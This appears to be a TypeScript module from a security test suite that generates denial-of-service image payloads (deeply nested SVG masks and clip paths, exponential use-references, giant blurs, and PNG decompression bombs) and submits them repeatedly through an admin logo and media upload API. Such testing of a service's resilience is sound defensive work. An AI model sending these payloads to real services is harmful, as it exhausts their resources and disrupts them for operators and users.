import { crc32, deflateSync } from 'node:zlib'
import { type Attack, repeated } from '../attack.ts'

const logo = (name: string, make: () => Buffer | string, times = 4): Attack => ({
  name: `logo: ${name}`,
  run({ admin }) {
    const content = Buffer.from(make()).toString('base64')
    return repeated(times, () => admin.call('set_logo', { content }))
  },
})

const media = (name: string, make: () => Buffer | string, file = 'a.png'): Attack => ({
  name: `image: ${name}`,
  run({ admin }) {
    const bytes = Buffer.from(make())
    return repeated(4, () => admin.upload('upload_media', { name: file }, bytes))
  },
})

const svg = (content: string) => `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100">${content}</svg>`
const nested = (depth: number, tag: string) =>
  svg(
    `<defs>${Array.from({ length: depth }, (_, i) => `<${tag} id="m${i}"><path d="M0 0h9v9" ${i ? `${tag === 'mask' ? 'mask' : 'clip-path'}="url(#m${i - 1})"` : ''}/><path d="M0 0h9v9" ${i ? `${tag === 'mask' ? 'mask' : 'clip-path'}="url(#m${i - 1})"` : ''}/></${tag}>`).join('')}</defs><path ${tag === 'mask' ? 'mask' : 'clip-path'}="url(#m${depth - 1})" d="M0 0h9v9"/>`,
  )
const used = (depth: number) =>
  svg(
    `<defs><path id="u0" d="M0 0h9v9"/>${Array.from({ length: depth }, (_, i) => `<g id="u${i + 1}">${`<use href="#u${i}"/>`.repeat(10)}</g>`).join('')}</defs><use href="#u${depth}"/>`,
  )

function chunk(type: string, content: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), content])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(content.length)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}

/** A PNG of zero bytes only: a pixel costs a thousandth of a byte. */
function png(width: number, height: number, depth: 8 | 16, rows = height): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head.set([depth, 6, 0, 0, 0], 8)
  const line = 1 + (width * 4 * depth) / 8
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(Buffer.alloc(line * rows))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

/** Images that cost more to render than to send. */
export const IMAGES: Attack[] = [
  logo('thirty comments and a letter', () => `${'<!---->'.repeat(30)}a`),
  logo('100,000 comments', () => `${'<!---->'.repeat(50_000)}<svg/>`),
  logo('masks within masks, 16 deep', () => nested(16, 'mask')),
  logo('clip paths within clip paths, 16 deep', () => nested(16, 'clipPath')),
  logo('uses of uses, ten to the eighth', () => used(8)),
  logo('30,000 paths', () => svg('<path d="M0 0h9v9"/>'.repeat(18_000))),
  logo('a path of 400 KB', () => svg(`<path d="M0 0${'h9v9'.repeat(95_000)}"/>`)),
  logo('a blur of a million', () =>
    svg('<filter id="f"><feGaussianBlur stdDeviation="1000000"/></filter><path filter="url(#f)" d="M0 0h99v99"/>'),
  ),
  logo('a pattern of a millionth', () =>
    svg(
      '<pattern id="p" width="0.000001" height="0.000001"><path d="M0 0h1v1"/></pattern><path fill="url(#p)" d="M0 0h99v99"/>',
    ),
  ),
  logo('a PNG of 16 bits, 7,000 to 7,000', () => png(7000, 7000, 16)),
  logo('a PNG that is told to be 100,000 wide', () => png(100_000, 100_000, 8, 1)),
  media('a PNG of 16 bits, 7,000 to 7,000', () => png(7000, 7000, 16)),
  media('a PNG of 49,000 to 1,000', () => png(49_000, 1000, 8)),
  media('a PNG that ends in its middle', () => png(4000, 4000, 8).subarray(0, 20_000)),
]
